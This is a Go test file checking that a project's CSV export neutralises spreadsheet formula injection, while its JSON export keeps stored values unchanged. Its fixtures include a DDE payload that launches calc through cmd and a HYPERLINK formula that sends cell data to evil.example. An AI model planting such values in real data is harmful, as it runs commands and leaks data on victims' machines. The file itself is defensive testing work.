package httpapi_test

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/cybertrade/cybertrade/export"
)

// splitList reads a list cell of the CSV files back into its values: it drops the leading "'"
// the writer adds before a formula character, then splits on ";" not escaped by "\".
func splitList(cell string) []string {
	if len(cell) > 1 && cell[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(cell[1])) {
		cell = cell[1:]
	}
	if cell == "" {
		return nil
	}
	var out []string
	var cur strings.Builder
	for i := 0; i < len(cell); i++ {
		switch {
		case cell[i] == '\\' && i+1 < len(cell):
			i++
			cur.WriteByte(cell[i])
		case cell[i] == ';':
			out = append(out, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(cell[i])
		}
	}
	return append(out, cur.String())
}

// TestHostileCSVCells: values an editor can store that a spreadsheet would run as formulas
// are neutralised in every CSV cell (F7); a lone carriage return survives, and a list value
// holding the separator stays one value (F18). dataset.json keeps every value as stored.
// The repros are the red-team report's.
func TestHostileCSVCells(t *testing.T) {
	forCurator(t, researchFixture, func(t *testing.T, c *curator) {
		aliases := []string{"@SUM(1,1)", "a;b;c", `back\slash`, "alias2"}
		c.must(t, c.editor, `mutation($a: [String!]) { createCompany(input: {slug: "rt-s-formula-eq", name: "=cmd|' /C calc'!A0", aliases: $a,
			sector: "+1+1", description: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"}) { company { id } } }`,
			map[string]any{"a": aliases}, nil)
		c.must(t, c.editor, `mutation { createSource(input: {key: "rt-src", title: "-2+3", publisher: "\t=1+1", date: "2020",
			url: "https://example.org/rt", note: "\r=1+1"}) { revision { id } } }`, nil, nil)
		files := c.exports(t)

		for name, body := range files {
			if !strings.HasSuffix(name, ".csv") {
				continue
			}
			recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			for _, r := range recs {
				for _, cell := range r {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s: a cell begins with a formula character: %q", name, cell)
					}
				}
			}
		}
		row := func(file, key string) map[string]string {
			for _, r := range readCSV(t, []byte(files[file])) {
				if r["slug"] == key || r["key"] == key {
					return r
				}
			}
			t.Fatalf("%s has no %s", file, key)
			return nil
		}
		co := row("companies.csv", "rt-s-formula-eq")
		if co["name"] != "'=cmd|' /C calc'!A0" || co["sector"] != "'+1+1" || !strings.HasPrefix(co["description"], "'=HYPERLINK(") {
			t.Errorf("companies.csv: %v", co)
		}
		if got := splitList(co["aliases"]); strings.Join(got, "|") != strings.Join(aliases, "|") {
			t.Errorf("aliases %q read back as %q, want %q", co["aliases"], got, aliases)
		}
		src := row("sources.csv", "rt-src")
		if src["title"] != "'-2+3" || src["publisher"] != "'\t=1+1" || src["note"] != "'\r=1+1" {
			t.Errorf("sources.csv: %q %q %q", src["title"], src["publisher"], src["note"])
		}
		if got := export.Neutralise("-2+3"); got != "'-2+3" {
			t.Errorf("Neutralise: %q", got)
		}

		// The JSON keeps the values as stored.
		var ds struct {
			Companies []struct {
				Slug, Name string
				Aliases    []string
			}
		}
		if err := json.Unmarshal([]byte(files["dataset.json"]), &ds); err != nil {
			t.Fatal(err)
		}
		for _, x := range ds.Companies {
			if x.Slug == "rt-s-formula-eq" && (x.Name != "=cmd|' /C calc'!A0" || strings.Join(x.Aliases, "|") != strings.Join(aliases, "|")) {
				t.Errorf("dataset.json changed the values: %+v", x)
			}
		}
		if !strings.Contains(files["dataset.json"], `"note": "\r=1+1"`) {
			t.Error("dataset.json lost the lone carriage return")
		}
	})
}
